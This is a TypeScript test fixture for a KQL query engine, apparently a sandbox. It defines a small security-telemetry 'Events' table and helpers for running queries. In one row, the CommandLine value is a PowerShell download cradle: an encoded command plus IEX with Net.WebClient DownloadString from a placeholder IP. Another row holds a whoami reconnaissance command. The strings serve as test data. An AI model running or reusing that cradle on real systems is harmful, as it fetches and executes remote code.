// A small hand-written table for the KQL engine tests, and helpers to run queries against it.
import { runKql, type KqlContext, type KqlResult, type KqlTable } from '../../../sandbox/kql';

export const NOW = new Date('2026-11-14T12:00:00Z');

export const EVENTS: KqlTable = {
  name: 'Events',
  columns: [
    { name: 'Timestamp', type: 'datetime' },
    { name: 'DeviceName', type: 'string' },
    { name: 'FileName', type: 'string' },
    { name: 'CommandLine', type: 'string' },
    { name: 'Port', type: 'int' },
    { name: 'Bytes', type: 'long' },
    { name: 'Score', type: 'real' },
    { name: 'IsAdmin', type: 'bool' },
    { name: 'Extra', type: 'dynamic' },
    { name: 'Elapsed', type: 'timespan' },
  ],
  rows: [
    {
      Timestamp: new Date('2026-11-14T10:00:00Z'),
      DeviceName: 'ws-1',
      FileName: 'powershell.exe',
      CommandLine:
        "powershell.exe -enc SQBFAFgA; IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')",
      Port: 443,
      Bytes: 1200,
      Score: 0.5,
      IsAdmin: true,
      Extra: { user: 'amy', tags: ['a', 'b'], nested: { level: 2 } },
      Elapsed: '00:30:00',
    },
    {
      Timestamp: '2026-11-13T09:30:00.1234567Z',
      DeviceName: 'ws-2',
      FileName: 'cmd.exe',
      CommandLine: 'cmd.exe /c whoami',
      Port: 80,
      Bytes: 300,
      Score: 2.25,
      IsAdmin: false,
      Extra: { user: 'raj', tags: [] },
      Elapsed: 36_000_000_000,
    },
    {
      Timestamp: '2026-11-01T08:00:00Z',
      DeviceName: 'ws-1',
      FileName: 'Network.exe',
      CommandLine: 'Network.exe --update',
      Port: 8080,
      Bytes: null,
      Score: null,
      IsAdmin: null,
      Extra: null,
      Elapsed: null,
    },
    {
      Timestamp: '2026-10-01T00:00:00Z',
      DeviceName: 'srv-1',
      FileName: 'POWERSHELL.EXE',
      CommandLine: 'POWERSHELL.EXE -NoProfile -File backup.ps1',
      Port: 445,
      Bytes: 5000,
      Score: 1,
      IsAdmin: true,
      Extra: { user: 'svc' },
      Elapsed: '1.00:00:00',
    },
  ],
};

export function context(overrides: Partial<KqlContext> = {}): KqlContext {
  return { tables: new Map([['Events', EVENTS]]), now: NOW, ...overrides };
}

export function run(query: string, overrides: Partial<KqlContext> = {}): KqlResult {
  return runKql(query, context(overrides));
}

/** The values of one column of a query result. */
export function column(query: string, name: string, overrides: Partial<KqlContext> = {}): unknown[] {
  return run(query, overrides).rows.map((r) => r[name]);
}

/** The single value a `print x = ...` query returns. */
export function value(expression: string): unknown {
  const result = run(`print x = ${expression}`);
  return result.rows[0]?.['x'];
}

/** The type of a `print x = ...` column. */
export function typeOf(expression: string): string | undefined {
  return run(`print x = ${expression}`).columns[0]?.type;
}
